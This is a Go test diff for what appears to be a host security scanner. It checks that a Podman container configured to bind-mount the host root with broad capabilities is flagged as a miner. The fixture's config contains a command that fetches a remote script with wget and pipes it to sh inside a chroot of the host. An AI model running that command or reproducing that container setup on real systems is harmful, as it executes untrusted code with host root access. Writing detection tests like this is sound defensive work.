@@ -262,3 +262,34 @@ func TestContainersStaticPods(t *testing.T) {
 		t.Errorf("inventory %d, errors %v", len(s.inv), s.errs)
 	}
 }
+
+// Podman (containers/storage): a rootless container whose OCI spec binds /
+// read-write with all capabilities and runs a miner is critical and names
+// its layer; a rootful nginx is inventoried only.
+func TestContainersPodman(t *testing.T) {
+	root := t.TempDir()
+	write := func(p, c string) {
+		os.MkdirAll(filepath.Dir(filepath.Join(root, p)), 0o755)
+		os.WriteFile(filepath.Join(root, p), []byte(c), 0o644)
+	}
+	write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n")
+	entry := func(id, name, image, layer string) string {
+		return `[{"id":"` + id + `","names":["` + name + `"],"image":"0123","layer":"` + layer + `","metadata":"{\"image-name\":\"` + image + `\",\"name\":\"` + name + `\"}","created":"2024-05-02T10:11:11Z"}]`
+	}
+	write("home/bob/.local/share/containers/storage/overlay-containers/containers.json", entry("m1", "sync", "docker.io/library/alpine:latest", "l1"))
+	write("home/bob/.local/share/containers/storage/overlay-containers/m1/userdata/config.json",
+		`{"process":{"args":["chroot","/host","/bin/sh","-c","wget -qO- http://198.51.100.7/m.sh | sh"],"capabilities":{"bounding":["CAP_SYS_ADMIN","CAP_NET_ADMIN"]}},"mounts":[{"destination":"/host","type":"bind","source":"/","options":["rbind"]}],"linux":{"namespaces":[{"type":"pid"},{"type":"mount"}]}}`)
+	write("var/lib/containers/storage/overlay-containers/containers.json", entry("n1", "web", "docker.io/library/nginx:latest", "l2"))
+	write("var/lib/containers/storage/overlay-containers/n1/userdata/config.json",
+		`{"process":{"args":["nginx","-g","daemon off;"]},"mounts":[{"destination":"/usr/share/nginx/html","type":"bind","source":"/srv/www","options":["rbind","ro"]}],"linux":{"namespaces":[{"type":"pid"},{"type":"network"},{"type":"mount"}]}}`)
+	s := runContainers(t, root)
+	if len(s.findings) != 1 || s.findings[0].Rule != "container.host-root-miner" ||
+		!strings.Contains(s.findings[0].Description, "/home/bob/.local/share/containers/storage/overlay/l1/diff") {
+		for _, f := range s.findings {
+			t.Errorf("%s %s %s %q", f.Rule, f.Severity, f.Evidence.Path, f.Description)
+		}
+	}
+	if len(s.inv) != 2 || len(s.errs) != 0 {
+		t.Errorf("inventory %d, errors %v", len(s.inv), s.errs)
+	}
+}
